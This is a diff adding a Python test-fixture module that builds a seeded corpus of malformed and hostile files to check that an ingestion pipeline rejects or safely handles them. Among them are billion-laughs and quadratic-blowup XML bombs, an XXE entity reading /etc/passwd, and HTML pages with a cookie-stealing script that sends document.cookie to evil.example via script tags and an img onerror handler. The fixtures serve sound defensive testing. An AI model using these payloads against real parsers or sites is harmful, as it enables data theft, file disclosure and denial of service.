@@ -1,0 +1,126 @@
+"""A generated corpus of hostile and malformed files mixed with good ones (seeded)."""
+
+from __future__ import annotations
+
+import json
+import random
+from collections.abc import Callable
+from pathlib import Path
+
+HUGE_LIMIT = 200_000  # max_file_bytes for these runs; the huge files are well over it
+EVIL_SCRIPT = "stealCookies"
+
+
+def _laughs(levels: int) -> str:
+    entities = ['<!ENTITY l0 "lol">'] + [
+        f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, levels)
+    ]
+    return (
+        f'<?xml version="1.0"?>\n<!DOCTYPE r [{"".join(entities)}]>\n'
+        f'<rss version="2.0"><channel><title>&l{levels - 1};</title>'
+        f"<item><title>x</title><description>&l{levels - 1};</description></item></channel></rss>"
+    )
+
+
+def _external_entity(n: int) -> str:
+    return (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        f"<rss><channel><item><title>t{n}</title><description>&x;</description></item>"
+        "</channel></rss>"
+    )
+
+
+def _quadratic(n: int) -> str:
+    blob = "A" * 50_000
+    return (
+        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{blob}">]>'
+        f"<rss><channel><item><title>q{n}</title><description>{'&a;' * 3000}</description>"
+        "</item></channel></rss>"
+    )
+
+
+def _broken_date_feed(rng: random.Random, n: int) -> str:
+    bad = rng.choice(["32/13/2025", "yesterday-ish", "2025-02-30", "Mon, 99 Foo 20", ""])
+    return (
+        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><item>'
+        f"<title>Brightfield {n} adds a plant</title><guid>bd-{n}</guid>"
+        f"<link>https://bd.example.com/{n}</link><pubDate>{bad}</pubDate>"
+        f"<description>Brightfield {n} added a plant making {100 + n} pumps a day."
+        "</description></item></channel></rss>"
+    )
+
+
+def _script_page(n: int) -> str:
+    return (
+        f"<html><head><title>Corvane {n} opens a lab</title>"
+        f"<script>function {EVIL_SCRIPT}(){{fetch('https://evil.example/'+document.cookie)}}"
+        f"</script><style>body{{color:red}}</style></head><body>"
+        f"<h1>Corvane {n} opens a lab</h1><p>Corvane {n} opened a lab with {20 + n} benches "
+        f"in Malmo on March {1 + n % 28}, 2025.</p>"
+        f'<script>{EVIL_SCRIPT}()</script><img src=x onerror="{EVIL_SCRIPT}()"></body></html>'
+    )
+
+
+def _good_note(n: int) -> str:
+    return (
+        f"---\ntitle: Velmora update {n}\ndate: 2025-05-{1 + n % 28:02d}\n---\n\n"
+        f"# Velmora update {n}\n\nVelmora shipped {300 + n} heat pumps to Oslo in May.\n"
+    )
+
+
+def write_hostile_corpus(root: Path, seed: int = 8) -> tuple[set[str], set[str]]:
+    """Files under `root`; returns (names that must fail, names that must be ingested)."""
+    rng = random.Random(seed)
+    root.mkdir(parents=True, exist_ok=True)
+    bad: set[str] = set()
+    good: set[str] = set()
+
+    def put(name: str, data: bytes | str, into: set[str]) -> None:
+        (root / name).write_bytes(data.encode() if isinstance(data, str) else data)
+        into.add(name)
+
+    makers: list[tuple[str, int, Callable[[int], bytes | str]]] = [
+        ("binary-{n}.txt", 20, lambda n: bytes(rng.randrange(256) for _ in range(2048))),
+        ("binary-{n}.md", 10, lambda n: b"\x00\x01\x02PK\x03\x04" + rng.randbytes(900)),
+        ("zero-{n}.md", 10, lambda n: b""),
+        ("blank-{n}.txt", 10, lambda n: " \n\t\n" * (n + 1)),
+        ("huge-{n}.txt", 8, lambda n: "Padding sentence. " * 20_000),
+        ("nested-{n}.json", 10, lambda n: "[" * (50_000 + n) + "]" * (50_000 + n)),
+        ("nested-obj-{n}.json", 5, lambda n: '{"a":' * 30_000 + "1" + "}" * 30_000),
+        ("truncated-{n}.json", 10, lambda n: json.dumps([{"id": f"t{n}", "text": "Zeta é"}])[:-7]),
+        ("trunc-utf8-{n}.json", 10, lambda n: f'[{{"id": "u{n}", "text": "café"}}]'),
+        ("notrecords-{n}.json", 8, lambda n: json.dumps({"hello": n, "list": [1, 2, 3]})),
+        ("badrecords-{n}.jsonl", 8, lambda n: "\n".join(['{"id": 1}', "not json", "[1,2]"])),
+        ("bomb-{n}.rss", 8, lambda n: _laughs(8 + n % 3)),
+        ("xxe-{n}.xml", 8, _external_entity),
+        ("quadratic-{n}.xml", 6, _quadratic),
+        ("malformed-{n}.xml", 8, lambda n: f"<rss><channel><item><title>x{n}</item>"),
+    ]
+    for pattern, count, make in makers:
+        for n in range(count):
+            data = make(n)
+            if pattern.startswith("trunc-utf8"):
+                data = data.encode()[:-4]  # cut inside the two-byte é and the closing quote
+            put(pattern.format(n=n), data, bad)
+    for n in range(12):
+        put(f"feed-baddate-{n}.rss", _broken_date_feed(rng, n), good)
+    for n in range(12):
+        put(f"script-{n}.html", _script_page(n), good)
+    for n in range(10):
+        put(
+            f"latin1-{n}.txt",
+            f"Société {n} ouvre un café à Zürich le 3 mars 2025.".encode("latin-1"),
+            good,
+        )
+    for n in range(10):
+        text = f"---\ntitle: [unclosed\ndate: {{{{ nope\n---\n\nNorvik {n} hired {40 + n} nurses."
+        put(f"badfront-{n}.md", text, bad)
+    for n in range(40):
+        put(f"good-{n}.md", _good_note(n), good)
+    records = [
+        {"id": f"rec-{n}", "title": f"Ostrava {n} grant", "published": f"2025-01-0{1 + n % 9}",
+         "text": f"Ostrava {n} received a grant of {10 + n} million euros for trams."}
+        for n in range(20)
+    ]  # fmt: skip
+    put("good-records.json", json.dumps(records), good)
+    return bad, good
